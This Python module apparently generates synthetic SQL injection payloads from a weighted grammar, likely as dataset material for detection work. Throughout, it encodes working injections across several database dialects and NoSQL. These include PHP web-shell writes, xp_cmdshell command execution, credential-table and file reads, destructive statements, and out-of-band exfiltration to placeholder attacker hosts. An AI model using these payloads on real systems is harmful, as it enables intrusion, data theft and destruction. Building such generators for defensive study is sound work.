"""SQL injection: break-outs, boolean, union, error, time, stacked, out-of-band, five dialects and their evasions."""

from threatclip.pairs.grammar.start import PARAM, Start

STARTS = (
    Start("attack", weight=14, places=PARAM),
    Start("evaded", weight=4, places=PARAM),
    Start("login", weight=2, places=("form", "json", "param")),
    Start("fragment", weight=3, places=PARAM),
    Start("tail_path", weight=1, places=("tail", "path")),
    Start("header_value", weight=2, places=("header",)),
    Start("name_attack", weight=1, places=("name",)),
)

TEXT = r"""
attack := *3 «lead»«boolean»«end» ¦ *5 «lead»«union»«end» ¦ *4 «lead»«error»«end» ¦ *5 «lead»«time»«end»
  ¦ *2 «lead»«stacked»«end» ¦ «lead»«outside»«end» ¦ «order_by» ¦ «naked» ¦ «lead»«files»«end» ¦ «json_where» ¦ «nosql»
lead := *3 «left»«quote»«close?30» ¦ «left»«quote»«close?30» ¦ *2 «left» ¦ «left») ¦ -1«quote»«close?30»
  ¦ «quote»«close?30» ¦ «left»%27 ¦ «left»\' ¦ «left»%df' ¦ «word»%«quote» ¦ «left»«quote»/**/
left := *3 «int» ¦ *2 1 ¦ -1 ¦ -«int» ¦ 0 ¦ «word» ¦ «rand» ¦ admin ¦ test ¦ «neg» ¦ «int».«int» ¦ 9999999 ¦ null
  ¦ «year»-0«small»-«dd» ¦ 0x«hex4» ¦ (select 1) ¦ -«small»«small».«small»
quote := *4 ' ¦ " ¦ ') ¦ ')) ¦ ") ¦ `) ¦ '' ¦ ' ) ¦ `
close := ) ¦ )) ¦ ))) ¦ «sp» ¦ ]
end := *3 «sp»--«sp» ¦ --«sp» ¦ *2 # ¦ *2 -- - ¦ «sp»--+ ¦ ;-- ¦ /* ¦ «nul» ¦ *2 «sp»and '«$z:abc»'='«$z»
  ¦ «sp»or '«small»'='«dd» ¦ «sp»AND ("«ab»"="«ab» ¦ -- «rand» ¦ «sp»and 1=1 ¦ ;%00 ¦ «sp»and «dd»=«dd»
  ¦ «sp»AND (('«$z:ab»' LIKE '«$z» ¦ «sp»as «ab» where 1=1 ¦ «sp»group by «small» ¦ «sp»limit 1 ¦ «sp»LIMIT «d»,«small»
  ¦ ' ¦ «sp»or ' ¦ ||' ¦ +' ¦ «sp»-- «b16»
logic := *3 and ¦ *3 AND ¦ *2 or ¦ *2 OR ¦ || ¦ && ¦ xor ¦ RLIKE ¦ or not ¦ And ¦ OR NOT ¦ having ¦ HAVING ¦ div ¦ where
  ¦ ^ ¦ |
boolean := *3 «sp»«logic» «truth» ¦ «logic» «truth» ¦ «sp»«logic» «probe» ¦ «sp»«logic» («truth») ¦ «sp»«logic» «probe»
  ¦ «sp»«logic» not «truth» ¦ =«d» «logic» «truth» ¦ /**/«logic»/**/«truth»
  ¦ «sp»«logic» case when «truth» then 1 else 0 end
truth := *3 «$n:int»=«$n» ¦ *2 1=1 ¦ '«$n:ab»'='«$n» ¦ "«$n:ab»"="«$n» ¦ '1'='1 ¦ «int»=«int» ¦ «small»>«d» ¦ 2>1 ¦ 1<2
  ¦ '«$n:abc»' like '«$n» ¦ «dd» between «small» and «int» ¦ 1 in (1,2) ¦ true ¦ not false ¦ 1 is not null
  ¦ «int»<>«int» ¦ '«ab»'<>'«abc» ¦ ascii('a')=97 ¦ 1 regexp 1 ¦ 'a' rlike 'a ¦ «$n:dd»-«$n»=0 ¦ 0x«$n:hex4»=0x«$n»
  ¦ 1 like 1 ¦ «small»*«small»=«dd» ¦ ''=' ¦ exists(select 1) ¦ 1<=>1 ¦ ~0 ¦ !0 ¦ 3 sounds like 3 ¦ length('«abc»')=3
  ¦ sin(0)=0 ¦ ''=' ¦ @@version>0 ¦ 1 glob 1 ¦ {`«ab»` 1}
probe := substring((«scalar»),«small»,1)='«letter» ¦ ascii(substr((«scalar»),«small»,1))>«dd»
  ¦ ord(mid((«scalar»),«small»,1))=«dd» ¦ (select count(*) from «table»)>«d» ¦ length((«scalar»))=«tens»
  ¦ exists(select «column» from «table») ¦ (select '«letter»' from «table» where «column»='«word»' limit 1)='«letter»
  ¦ (select 1 from «table» limit 0,1)=1 ¦ left((«scalar»),«small»)='«abc»
  ¦ (select «column» from «table» limit 1) like '«letter»% ¦ bin(ascii(mid((«scalar»),«small»,1))) regexp 1
  ¦ if((«scalar») like 0x«hex4»25,1,0) ¦ unicode(substring((select top 1 name from sysobjects),«small»,1))>«dd»
  ¦ «int»=(select «int» from pg_user) ¦ «int»=(select upper(xmltype(chr(60)||chr(58)||(«scalar»)||chr(62))) from dual)
  ¦ position('«ab»' in «scalar»)>0
  ¦ (select case when («truth») then «small» else «small»*(select «small» union select «small») end)=«small»
  ¦ hex(substr((select tbl_name from sqlite_master limit 1),«small»,1))>hex('«letter»')
  ¦ strcmp(substring((«scalar»),1,1),'«letter»')=0
scalar := *2 select «column» from «table» limit 1 ¦ *2 version() ¦ @@version ¦ user() ¦ *2 database() ¦ current_user
  ¦ select «column» from «table» where «column»='«word»' ¦ select group_concat(«column») from «table» ¦ system_user()
  ¦ select user from mysql.user limit 1 ¦ session_user() ¦ schema() ¦ @@hostname ¦ @@datadir ¦ @@basedir
  ¦ select table_name from information_schema.tables where table_schema=database() limit «d»,1
  ¦ select column_name from information_schema.columns where table_name='«table»' limit «d»,1
  ¦ select banner from v$version where rownum=1 ¦ select name from master..sysdatabases where dbid=«small»
  ¦ current_setting('«=server_version~data_directory~is_superuser»') ¦ select sql from sqlite_master limit 1
  ¦ sqlite_version() ¦ select string_agg(«column»,',') from «table» ¦ select top 1 «column» from «table» ¦ db_name()
  ¦ suser_name() ¦ is_srvrolemember('sysadmin') ¦ select user from dual ¦ select passwd from pg_shadow limit 1
  ¦ current_database() ¦ select listagg(table_name,',') from all_tables ¦ @@servername ¦ last_insert_id()
  ¦ connection_id() ¦ uuid()
table := *3 users ¦ user ¦ *2 admin ¦ accounts ¦ members ¦ wp_users ¦ «word»s ¦ «word»_«word» ¦ customers ¦ employees
  ¦ tbl_«word» ¦ credentials ¦ sessions ¦ orders ¦ settings ¦ information_schema.tables ¦ information_schema.schemata
  ¦ information_schema.columns ¦ mysql.user ¦ sysobjects ¦ sys.tables ¦ all_tables ¦ user_tables ¦ pg_catalog.pg_tables
  ¦ pg_shadow ¦ sqlite_master ¦ dual ¦ dba_users ¦ syscolumns ¦ msysobjects ¦ jos_users ¦ #__users ¦ administrators
  ¦ auth_user
column := *3 password ¦ *3 username ¦ *2 user ¦ pass ¦ passwd ¦ email ¦ login ¦ user_login ¦ user_pass ¦ id ¦ name
  ¦ hash ¦ token ¦ table_name ¦ column_name ¦ schema_name ¦ secret ¦ «word» ¦ «word»_«word» ¦ pwd ¦ salt
  ¦ concat(«word»,0x3a,«word») ¦ api_key ¦ credit_card ¦ usename ¦ tbl_name ¦ sql ¦ authentication_string
union := *4 «sp»«uni» «select» «cells» ¦ «sp»«uni» «select» «cells» from «table»
  ¦ «sp»«uni» «select» «cells» from «table» where «truth_open» ¦ «uni» «select» «cells»
  ¦ /**/«uni»/**/«select»/**/«cells» ¦ «sp»and 1=2 «uni» «select» «cells» ¦ «sp»limit 0 «uni» «select» «cells»
  ¦ «sp»«uni» (select «cells») ¦ «sp»«uni» select * from (select «small»)«$a:ab» join (select «small»)«ab»
  ¦ «sp»«uni» values(«cells») ¦ «sp»procedure analyse(«uni» select «cells») ¦ «sp»into @«ab» «uni» select «cells»
  ¦ «sp»«uni» distinct select «cells» ¦ «sp»«uni» select «cells» into outfile '«web_root»/«rand».php'
truth_open := «column»='«word»' ¦ «column»=«int» ¦ 1=1 ¦ table_schema=database() ¦ table_name=0x«table|hex»
  ¦ table_name='«table»' ¦ «column» like '%«word»%' ¦ rownum=1 ¦ type='table'
uni := *4 union ¦ *4 UNION ¦ *3 union all ¦ *3 UNION ALL ¦ Union ¦ uNiOn ¦ union distinct ¦ UNION ALL DISTINCT
  ¦ unIOn aLL ¦ except ¦ intersect
select := *4 select ¦ *4 SELECT ¦ Select ¦ sElEcT ¦ SELECT DISTINCT ¦ select all ¦ select top 1 ¦ SELECT SQL_NO_CACHE
cells := *2 «cell»«more_cells*1-9» ¦ «cell» ¦ «ladder» ¦ *3 «filler»«more_filler*1-6»,«loot»«more_filler*0-6»
  ¦ «loot»«more_filler*1-6» ¦ «filler»,«loot» ¦ «loot»,«loot»«more_filler*0-3» ¦ *
filler := *3 NULL ¦ *3 «d» ¦ null ¦ 1 ¦ «int» ¦ '«small»' ¦ '' ¦ 0x«hex4» ¦ char(«dd») ¦ @«ab» ¦ «dd»«dd»«dd»
  ¦ to_char(«small»)
more_filler := ,«filler»
cell := «filler» ¦ «filler» ¦ «loot»
more_cells := ,«cell»
ladder := 1,2,3 ¦ 1,2,3,4 ¦ 1,2,3,4,5 ¦ 1,2,3,4,5,6,7 ¦ 1,2,3,4,5,6,7,8,9,10 ¦ 1,2,«loot»,4,5 ¦ 1,«loot»,3,4
  ¦ 1,2,3,«loot»,5,6,7,8 ¦ NULL,NULL,NULL ¦ 0,1,2,«loot»,4,5,6,7,8,9,10,11,12 ¦ 11,22,33,«loot»,55
loot := *3 «digest» ¦ *2 concat(«joined») ¦ group_concat(«joined») ¦ concat_ws(0x«hex4»,«joined») ¦ «column»
  ¦ «column»||'~'||«column» ¦ version() ¦ @@version ¦ user() ¦ database() ¦ load_file('«unix_file»')
  ¦ load_file(0x«unix_file|hex») ¦ (select «column» from «table» limit «d»,1)
  ¦ (select group_concat(«column») from «table») ¦ unhex(hex(«column»)) ¦ «column»+char(58)+«column»
  ¦ cast(«column» as char) ¦ convert(«column» using utf8) ¦ banner ¦ @@datadir ¦ table_name ¦ column_name
  ¦ string_agg(«column»,chr(44)) ¦ json_arrayagg(«column») ¦ pg_read_file('«unix_file»') ¦ sqlite_version()
  ¦ xmlagg(xmlelement(«ab»,«column»)) ¦ '<?php «=eval($_POST[1]);~system($_GET["c"]);~phpinfo();» ?>' ¦ 0x«coined|hex»
  ¦ sys_context('USERENV','«=DB_NAME~SESSION_USER~IP_ADDRESS»') ¦ hex(«column») ¦ replace(«column»,' ','_')
digest := md5(«int») ¦ md5(«big») ¦ sha1(«int») ¦ md5('«rand»') ¦ concat('«rand»','«rand»')
  ¦ concat(0x«hex8»,«int»*«int») ¦ «int»*«int» ¦ CONCAT(0x«hex8»,0x«hex8»)
  ¦ sys.fn_sqlvarbasetostr(HashBytes('MD5','«int»')) ¦ sys.fn_varbintohexstr(hashbytes('md5','«int»')) ¦ crc32(«int»)
  ¦ CHR(«dd»)||CHR(«dd») ¦ char(«dd»,«dd»,«dd») ¦ «coined|charplus» ¦ sha2(«int»,256) ¦ hex('«rand»')
  ¦ encode('«rand»','base64')
joined := 0x«hex8»,«scalar_flat»,0x«hex8» ¦ «column»,0x3a,«column» ¦ '~',(«scalar»),'~' ¦ 0x7e,«scalar_flat»,0x7e
  ¦ «column»,char(58),«column» ¦ user(),0x2f,database() ¦ «column» separator 0x3c62723e ¦ «column»,'|',«column»
scalar_flat := version() ¦ user() ¦ database() ¦ @@version ¦ (select «column» from «table» limit «d»,1) ¦ md5(«int»)
  ¦ (select «int») ¦ (select (elt(«int»=«int»,1))) ¦ current_user ¦ @@global.version_compile_os
  ¦ mid((«scalar»),«small»,«tens») ¦ (SELECT DISTINCT concat(«column») from «table»)
error := «sp»«logic» «xmlfun» ¦ *2 «sp»«logic» «xmlfun»
  ¦ «sp»«logic» (select 1 from(select count(*),concat(«joined»,floor(rand(0)*2))«$a:ab» from information_schema.«=tables~plugins~character_sets» group by «$a»)«ab»)
  ¦ «sp»«logic» exp(~(select*from(select «scalar_flat»)«ab»)) ¦ «sp»«logic» 1=convert(int,(«scalar»))
  ¦ «sp»«logic» cast((«scalar») as «=int~numeric~signed»)=«d»
  ¦ «sp»«logic» «int» in (select (char(113)+char(«dd»)+(«scalar»)+char(113)))
  ¦ «sp»«logic» «int»=ctxsys.drithsx.sn(«int»,(«scalar»)) ¦ «sp»«logic» «int»=utl_inaddr.get_host_name((«scalar»))
  ¦ «sp»«logic» row(«int»,«int»)>(select count(*),concat(«joined»,floor(rand(0)*2))«ab» from (select «int» union select «int»)«ab» group by «ab»)
  ¦ «sp»«logic» gtid_subset(concat(«joined»),«int»)
  ¦ «sp»«logic» json_keys((select convert((select concat(«joined»)) using utf8)))
  ¦ «sp»«logic» 1=cast((chr(113)||(«scalar»)::text||chr(113)) as numeric)
  ¦ «sp»«logic» (select «int» from(select geometrycollection((select*from(select*from(«scalar»)«ab»)«ab»))))
  ¦ «sp»«logic» polygon((select*from(select*from(select «scalar_flat»)«ab»)«ab»))
  ¦ «sp»«logic» name_const(«scalar_flat»,1) ¦ «sp»«logic» 1=db_name(«d») ¦ «sp»group by «column» having 1=1
  ¦ /(select 1/0) ¦ «sp»«logic» to_number(('~'||(«scalar»)))=1 ¦ «sp»«logic» dbms_xmlgen.getxml('«scalar»') is null
  ¦ «sp»«logic» extractvalue(xmltype('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % «ab» SYSTEM "«url»">%«ab»;]>'),'/l')
xmlfun := *2 extractvalue(«int»,concat(«joined»)) ¦ *2 updatexml(«int»,concat(«joined»),«int»)
  ¦ (extractvalue(1,concat(0x7e,(«scalar»),0x7e))) ¦ updatexml(1,concat(0x7e,md5(«int»),0x7e),1)
  ¦ EXTRACTVALUE(«int»,CONCAT(0x5c,0x«hex8»,(SELECT (ELT(«$n:int»=«$n»,1))),0x«hex8»))
  ¦ ExtractValue(rand(),concat(0x3a,«scalar_flat»)) ¦ UpdateXML(null,concat(0x0a,«scalar_flat»),null)
time := *3 «sp»«logic» «wait» ¦ «sp»«logic» (select «int» from (select(«wait_my»))«rand»)
  ¦ «sp»«logic» if(«truth»,«wait_my»,«d») ¦ «sp»«logic» if((«probe»),«wait_my»,0) ¦ ;«wait_ms» ¦ ;«wait_ms»
  ¦ ;select «wait_pg» ¦ «sp»«logic» «int»=(select «int» from «wait_pg»)
  ¦ «sp»«logic» (select case when («truth») then «wait_pg» else «wait_pg» end) ¦ +(select*from(select(«wait_my»))«ab»)+'
  ¦ «sp»«logic» «int»=dbms_pipe.receive_message('«ab»',«tens») ¦ -«wait_my» ¦ *«wait_my»
  ¦ «sp»«logic» 0 in (select «wait_my») ¦ «sp»waitfor delay '0:0:«tens»'
  ¦ «sp»if(«truth») waitfor delay '00:00:0«small»' ¦ xor(if(now()=sysdate(),«wait_my»,0))xor'z
  ¦ "xor(if(now()=sysdate(),«wait_my»,0))xor"z ¦ '||(select «wait_pg»)||'
  ¦ '||dbms_pipe.receive_message(chr(«dd»)||chr(«dd»),«tens»)||' ¦ «sp»union select «wait_my»«more_filler*0-4»
  ¦ ,(select «wait_my») ¦ «sp»«logic» (select count(*) from all_users t1,all_users t2,all_users t3,all_users t4)>0
wait := *3 «wait_my» ¦ (select «wait_my») ¦ «wait_pg» is null ¦ (select «int» from(select «wait_my»)«ab»)
  ¦ «int»=(select count(*) from generate_series(1,«big»)) ¦ «int»=like('abcdefg',upper(hex(randomblob(«big»/2))))
  ¦ (select «wait_my»)='«ab» ¦ 1=(«wait_my») ¦ «wait_my»=0 ¦ elt(«truth»,«wait_my») ¦ dbms_lock.sleep(«tens») is null
  ¦ utl_inaddr.get_host_address('«attacker»') is not null
  ¦ (select count(*) from sysusers as a,sysusers as b,sysusers as c,sysusers as d)>0
wait_my := *4 sleep(«tens») ¦ *3 SLEEP(«tens») ¦ *3 benchmark(«big»,md5(«int»)) ¦ BENCHMARK(«small»000000,SHA1(«int»))
  ¦ sleep(«small».«d») ¦ benchmark(«small»0000000,encode('«abc»','«ab»')) ¦ sleep(«small»*«small») ¦ SlEeP(«small»)
  ¦ get_lock('«rand»',«tens») ¦ benchmark(«big»,rand()) ¦ rlike(concat(rpad(1,999999,'a'),'(a.*)+b'))
  ¦ sleep(/**/«tens»)
wait_pg := *4 pg_sleep(«tens») ¦ PG_SLEEP(«tens») ¦ (select «int» from pg_sleep(«tens»))
  ¦ pg_sleep_for('«tens» seconds') ¦ (select count(*) from generate_series(1,«big»)) ¦ pg_catalog.pg_sleep(«small»)
  ¦ cast(pg_sleep(«tens») as text)
wait_ms := *4 waitfor delay '0:0:«tens»' ¦ WAITFOR DELAY '00:00:«dd»' ¦ waitfor delay '0:0:«small».«d»'
  ¦ if(«truth») waitfor delay '0:0:«tens»' ¦ declare @«$a:ab» varchar(99) set @«$a»=0x«hex16» exec(@«$a»)
  ¦ waitfor time '«dd»:«dd»' ¦ if (select count(*) from «table»)>0 waitfor delay '0:0:«tens»'
  ¦ begin waitfor delay '0:0:«small»' end
stacked := *2 ;drop table «table» ¦ ;insert into «table»(«column»,«column») values('«word»','«rand»')
  ¦ ;update «table» set «column»='«rand»' where «truth_open» ¦ ;delete from «table»
  ¦ ;exec master..xp_cmdshell '«win_info»' ¦ ;exec xp_dirtree '\\«attacker»\«ab»'
  ¦ ;exec sp_configure 'show advanced options',1;reconfigure
  ¦ ;exec sp_configure 'xp_cmdshell',1;reconfigure;exec xp_cmdshell '«win_cmd»'
  ¦ ;copy (select '') to program '«unix_cmd»' ¦ ;create table «$t:rand»(«ab» text);copy «$t» from program '«unix_info»'
  ¦ ;select lo_import('«unix_file»')
  ¦ ;create or replace function «rand»(text) returns text as '«word»' language plpythonu
  ¦ ;declare @«$a:ab» int;exec sp_oacreate 'wscript.shell',@«$a» out
  ¦ ;select * from openrowset('SQLOLEDB','«ip»';'sa';'«rand»','select 1') ¦ ;shutdown ¦ ;truncate table «table»
  ¦ ;begin dbms_lock.sleep(«tens»); end; ¦ ;handler «table» open
  ¦ ;set @«$a:ab»=0x«hex16»;prepare «$s:ab» from @«$a»;execute «$s» ¦ ;rename table «table» to «rand»
  ¦ ;create user «rand» identified by '«rand»' ¦ ;grant all on *.* to '«word»'@'%'
  ¦ ;attach database '«web_root»/«rand».php' as «ab» ¦ ;exec('sel'+'ect «small»') ¦ ;alter table «table» add «rand» int
  ¦ ;select load_extension('\\«attacker»\«ab».dll','«ab»') ¦ ;do $$begin perform pg_sleep(«tens»);end$$
  ¦ ;exec sp_makewebtask '«word».html','select 1' ¦ ;backup database «word» to disk='\\«attacker»\«ab»'
outside := «sp»«logic» (select load_file(concat('\\\\',(«scalar»),'.«zone»\\«ab»')))
  ¦ «sp»union select utl_http.request('«url»'||(«scalar»)) from dual
  ¦ «sp»«logic» (select utl_inaddr.get_host_address((«scalar»)||'.«zone»') from dual) is not null
  ¦ ;exec master..xp_dirtree '\\«attacker»\share' ¦ ;exec master.dbo.xp_fileexist '\\«attacker»\«ab»'
  ¦ «sp»«logic» (select httpuritype('«url»').getclob() from dual) is not null
  ¦ ;copy (select «column» from «table») to program 'curl «url»'
  ¦ ;select * from dblink('host=«attacker» user=«ab» password=«ab» dbname=«ab»','select 1') returns (i int)
  ¦ «sp»«logic» dbms_ldap.init(('«attacker»'),80) is null
  ¦ ;declare @«$q:ab» varchar(1024);set @«$q»='\\'+(«scalar»)+'.«zone»\«ab»';exec master..xp_dirtree @«$q»
files := «sp»union select load_file('«unix_file»')«more_filler*0-5»
  ¦ «sp»into outfile '«web_root»/«rand».php' lines terminated by 0x«hex16» ¦ «sp»into dumpfile '«web_root»/«rand».php'
  ¦ «sp»union select '<?php «=eval($_POST[1]);~system($_GET["c"]);~phpinfo();» ?>'«more_filler*0-4» into outfile '«web_root»/«rand».php'
  ¦ «sp»union all select pg_read_file('«unix_file»',0,«int»)
  ¦ «sp»union select 1,bulkcolumn from openrowset(bulk 'c:\«win_path»',single_clob) «ab»
  ¦ ;load data local infile '«unix_file»' into table «word» ¦ «sp»and (select load_file('«unix_file»') is not null)
order_by := «column» «=asc~desc~~ASC~DESC»,(«wait_my») ¦ (case when («truth») then «column» else «column» end)
  ¦ «small» procedure analyse(extractvalue(«int»,concat(«joined»)),1)
  ¦ if(«truth»,«column»,(select 1 from information_schema.tables)) ¦ (select «small» from(select(«wait_my»))«ab»)
  ¦ «left» order by «dd»«end» ¦ «left»«quote» order by «tens»«end» ¦ «column»,extractvalue(1,concat(0x7e,(«scalar»)))
  ¦ «word»;«wait_ms»-- ¦ (select*from(select(«wait_my»))«ab») ¦ updatexml(rand(),concat(0x3a,«scalar_flat»),null)
  ¦ «column» limit 1,1 procedure analyse() ¦ «left» group by «small»,«small» having «truth»
naked := «d»+(select*from(select(«wait_my»))«ab») ¦ (select(0)from(select(«wait_my»))«ab»)
  ¦ if(now()=sysdate(),«wait_my»,0) ¦ (select «int» from pg_sleep(«tens»)) ¦ (select concat(«joined»))
  ¦ case when («truth») then «d» else («scalar») end
  ¦ «int» rlike (select (case when («truth») then «int» else 0x28 end)) ¦ («scalar») ¦ «int» AND «int»=«int»
  ¦ «int»-if(«truth»,0,1) ¦ «d» union select «cells» ¦ («int»)union(select(«d»),«digest») ¦ «int»)«wait_ms»
  ¦ «int»/(case when («truth») then 1 else 0 end) ¦ concat(«joined»)
json_where := «left»' and json_extract('{"«ab»":«$n:int»}','$.«ab»')=«$n» or '
  ¦ «left»' or json_length('{}')<=«small»«end» ¦ «left»' or '{"«$k:ab»":2}'::jsonb @> '{"«$k»":2}'::jsonb«end»
  ¦ «left»' or json_type('{}')='OBJECT'«end» ¦ «left»' or data->>'$.«word»'='«word»'«end»
  ¦ @2017 «left»' or jsonb_path_exists('{}','$')«end» ¦ {"«column»":"«left»' or «truth»"}
  ¦ @2019 «left»' or isjson('{}')=1«end»
nosql := {"$ne":null} ¦ {"$gt":""} ¦ {"$regex":"^«letter»"} ¦ {"$where":"sleep(«tens»000)"} ¦ ' || '«$n:ab»'=='«$n»
  ¦ '; return true; var «ab»=' ¦ {"$nin":["«word»"]} ¦ ' || this.«column».match(/^«letter»/)//+%00
  ¦ {"$or":[{},{"«ab»":"«ab»"}]} ¦ true, $where: '1 == 1' ¦ {"$exists":true}
login := *2 «=admin~root~administrator~user~test~guest~sa~1~»«quote» «=or~OR~||~Or» «truth»«=--~-- -~#~/*~~ --~ limit 1--»
  ¦ ' or «truth»«=--~#~ -- -~ ;--» ¦ admin'«=--~#~/*~ -- ~-- -~;--» ¦ ' or ''=' ¦ ") or ("«$n:ab»"="«$n»
  ¦ ') or ('«$n:ab»'='«$n» ¦ ' union select '«word»','«hex32»' -- ¦ '=' ¦ '-' ¦ '=0# ¦ ' or 1 limit 1 offset «small» --
  ¦ admin' and 1=0 union all select 'admin','«hex32» ¦ or 1=1 ¦ ' or uid like '% ¦ \
  ¦ ' or «column» is not null or '«ab»'='«ab» ¦ 1' or '1' = '1 ¦ '||'1'||' ¦ "or 1=1 or ""=" ¦ ' or true--
  ¦ %' or '0'='0 ¦ ffifdyop ¦ '^'0 ¦ ' or id=«small»;-- ¦ x' or full_name like '%«word»%
fragment := «sp»«sqlword» ¦ _«=utf8~latin1~binary~ucs2~utf8mb4» «=0x~x'»«hex8» ¦ «func»( «scalar_flat» )
  ¦ like binary '%«ab»' ¦ «left»-0 ¦ «left»;--«sp» ¦ «left»#«rand»«nl»«sqlword» ¦ (select(1)) ¦ =«func»('«ab»)
  ¦ select «func»(«column») from «table» ¦ «sqlword» «column» «sqlword» «table» ¦ ~«small» ¦ '«small»'!='«dd»'
  ¦ «left»'&&'«ab»'||' ¦ intersect select «cells» ¦ procedure «name»()
  ¦ create function «rand» returns string soname '«rand».so' ¦ replace into «table» values(«int»)
  ¦ load data infile '«unix_file»' into table «word» ¦ select * from «table» where «column» rlike '^«ab»'
  ¦ if(«truth»,1,0) ¦ ';«sqlword» «table» ¦ having count(*)>«d» ¦ order by «tens»-- ¦ group by «column» with rollup
  ¦ open sesame; deallocate «word» ¦ dbms_xmlquery.newcontext('«scalar»') ¦ '«sqlword»' ¦ «left»' ¦ «left»"
  ¦ «left»'«nl» ¦ «left»`«sqlword» ¦ «left»;«sqlword» ¦ select * from «table»
  ¦ SELECT «column»,«column» FROM «table» WHERE «column»='«word»' ¦ insert into «table» values(«int»,'«word»')
  ¦ update «table» set «column»=«int» ¦ delete from «table» where «column»=«int» ¦ drop table «table»
  ¦ «func»(«scalar_flat») ¦ «func»('«word»') ¦ @@«sysvar» ¦ /*!«=50000~40119~»«sqlword|upper»*/
  ¦ create table «rand»(«word» int) ¦ show tables ¦ «left» «sqlword» «sqlword» ¦ exec «proc»
  ¦ execute immediate '«scalar»' ¦ having «truth» ¦ group by «column» ¦ describe «table» ¦ union/**/select
  ¦ '«logic»'«letter»' ¦ select case when «truth» then 1 end ¦ alter database «word» ¦ «left»'='«left» ¦ '/**/'«left»
  ¦ show databases ¦ declare @«ab» nvarchar(4000) ¦ merge into «table» using dual ¦ call «word».«word»()
  ¦ select @@«sysvar» ¦ select * from «table» limit «small» ¦ waitfor delay '0:0:«small»'
func := ascii ¦ char ¦ concat ¦ substring ¦ mid ¦ hex ¦ unhex ¦ load_file ¦ benchmark ¦ sleep ¦ md5 ¦ extractvalue
  ¦ updatexml ¦ group_concat ¦ ifnull ¦ nullif ¦ coalesce ¦ cast ¦ convert ¦ ord ¦ lpad ¦ rpad ¦ reverse ¦ soundex ¦ bin
  ¦ conv ¦ greatest ¦ least ¦ elt ¦ field ¦ find_in_set ¦ instr ¦ locate ¦ position ¦ aes_decrypt ¦ from_base64
  ¦ to_base64 ¦ row_count ¦ found_rows ¦ last_insert_id ¦ inet_aton ¦ std ¦ stddev ¦ var_pop ¦ xmltype
  ¦ dbms_xmlgen.getxml ¦ utl_http.request ¦ utl_inaddr.get_host_name ¦ to_char ¦ to_date ¦ nvl ¦ decode ¦ rawtohex
  ¦ pg_read_file ¦ pg_ls_dir ¦ lo_import ¦ array_to_string ¦ string_agg ¦ quote_literal ¦ current_setting ¦ query_to_xml
  ¦ database_to_xml ¦ openrowset ¦ opendatasource ¦ object_id ¦ object_name ¦ col_name ¦ serverproperty ¦ quotename
  ¦ host_name ¦ patindex ¦ charindex ¦ isnull ¦ stuff ¦ randomblob ¦ zeroblob ¦ typeof ¦ unicode ¦ printf ¦ json_extract
  ¦ st_latfromgeohash ¦ uncompress ¦ export_set ¦ make_set ¦ lcase ¦ ucase ¦ curdate ¦ dayname ¦ period_add
  ¦ timestampdiff ¦ weekday
sqlword := select ¦ union ¦ insert ¦ update ¦ delete ¦ drop ¦ having ¦ group by ¦ order by ¦ limit ¦ like ¦ rlike
  ¦ regexp ¦ sounds like ¦ between ¦ exists ¦ procedure analyse ¦ outfile ¦ dumpfile ¦ information_schema ¦ benchmark
  ¦ sleep ¦ xor ¦ is null ¦ not in ¦ truncate ¦ alter ¦ create ¦ exec ¦ declare ¦ cast ¦ convert ¦ waitfor ¦ shutdown
  ¦ merge ¦ natural join ¦ left outer join ¦ cross join ¦ collate ¦ div ¦ binary ¦ interval
sysvar := version ¦ version_comment ¦ hostname ¦ datadir ¦ basedir ¦ tmpdir ¦ secure_file_priv ¦ port ¦ servername
  ¦ language ¦ spid ¦ max_connections ¦ global.version ¦ identity ¦ rowcount ¦ plugin_dir ¦ sql_mode ¦ innodb_version
proc := xp_cmdshell '«win_info»' ¦ xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\«coined»' ¦ xp_dirtree 'c:\'
  ¦ sp_executesql N'select «small»' ¦ sp_password ¦ sp_help '«table»' ¦ xp_enumdsn ¦ xp_loginconfig ¦ sp_addextendedproc
  ¦ sp_oamethod @«ab»,'run' ¦ xp_servicecontrol 'start','schedule' ¦ xp_availablemedia ¦ sp_who ¦ sp_tables
  ¦ xp_ntsec_enumdomains
evaded := *3 «lead»«union|sqlsp»«end» ¦ *2 «lead»«boolean|sqlsp»«end» ¦ «lead»«union|sqlver»«end»
  ¦ *2 «lead»«union|case»«end» ¦ «lead»«time|sqlsp»«end» ¦ «lead»«time|case»«end» ¦ *2 «attack|urlsome»
  ¦ «attack|urlall» ¦ «attack|url» ¦ «lead»«error|sqlsp»«end» ¦ «lead»«error|case»«end» ¦ «attack|b64»
  ¦ «lead» «=union~select~or~and|gap» «select» «cells»«end» ¦ «lead» «$u:gapped» «$s:gapped2» «cells»«end»
  ¦ «attack|uni» ¦ «left»%bf%27 «union»«end» ¦ «left»%2527 «union»«end»
  ¦ «left»%252f%252a*/union%252f%252a /select%252f%252a*/«cells» ¦ «lead»/*!«int»«union»*/«end» ¦ «lead»«nl»«union»«end»
  ¦ «lead»%0aunion%0aselect%0a«cells»«end» ¦ «int»e0union select «cells»«end»
  ¦ «lead»union(select«=%0b~%0c~%a0~%0d»«cells»)«end» ¦ «lead»&&(«truth») ¦ ＇ or «truth»«end» ¦ «left»ʼ or «truth»«end»
  ¦ «lead»-- «rand»%0a«union»«end»
gapped := UNIunionON ¦ uniUNIONon ¦ ununionion ¦ UN/**/ION ¦ UNI%6fN ¦ %55nion ¦ un%69on
gapped2 := SELselectECT ¦ seSELECTlect ¦ SEL/**/ECT ¦ %53elect ¦ selec%74 ¦ s%65lect
tail_path := /«word»/«lead»«union|sqlsp»«end» ¦ /«int»«quote»%20«=or~and»%20«$n:int»=«$n»
  ¦ /«word»/«int»%27%20and%20«wait_my» ¦ /«word»-«int»«quote».html ¦ /«int»)%20or%20«wait_my»--%20-
  ¦ /«word»/«int»'/**/and/**/«wait_my»%23
header_value := «browser»' and «wait_my» and '1 ¦ «ip»'+(select*from(select(«wait_my»))«ab»)+'
  ¦ '«=XOR~xor»(if(now()=sysdate(),«wait_my»,0))«=XOR~or»' ¦ «rand20»'; select «wait_pg»--
  ¦ «rand20»' and (select '«letter»' from «table» limit 1)='«letter» ¦ «attack» ¦ «uuid»' or «truth» --
  ¦ «browser»"«error»«end» ¦ «ip»',(«wait_my»)) --
browser := Mozilla/5.0 ¦ Mozilla/5.0 (X11; Linux x86_64) ¦ curl/7.«dd».0 ¦ en-US,en;q=0.«small» ¦ http://«site»/
